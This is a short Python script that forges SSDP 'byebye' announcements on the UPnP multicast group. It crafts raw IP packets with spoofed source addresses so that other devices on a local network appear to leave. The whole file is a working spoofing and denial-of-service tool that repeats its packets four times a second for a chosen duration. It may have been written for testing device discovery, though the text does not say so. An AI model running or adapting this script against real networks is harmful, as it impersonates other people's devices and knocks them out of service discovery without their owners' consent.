# SPDX-License-Identifier: ISC
"""Sends byebyes of other devices from their own addresses, for all of them four times a second.

usage: forged_byebyes.py SECONDS [UDN ADDRESS]...     it prints a line for each round"""
import socket
import struct
import sys
import time

GROUP = "239.255.255.250"
raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def packet(udn, address):
    text = f"NOTIFY * HTTP/1.1\r\nHOST: {GROUP}:1900\r\nNT: upnp:rootdevice\r\nUSN: {udn}::upnp:rootdevice\r\nNTS: ssdp:byebye\r\n\r\n".encode()
    udp = struct.pack("!HHHH", 1900, 1900, 8 + len(text), 0) + text
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 2, 17, 0, socket.inet_aton(address), socket.inet_aton(GROUP)) + udp


packets = [packet(*pair) for pair in zip(sys.argv[2::2], sys.argv[3::2])]
end = time.monotonic() + float(sys.argv[1])
while time.monotonic() < end:
    for each in packets:
        raw.sendto(each, (GROUP, 0))
    print("round", flush=True)
    time.sleep(0.25)
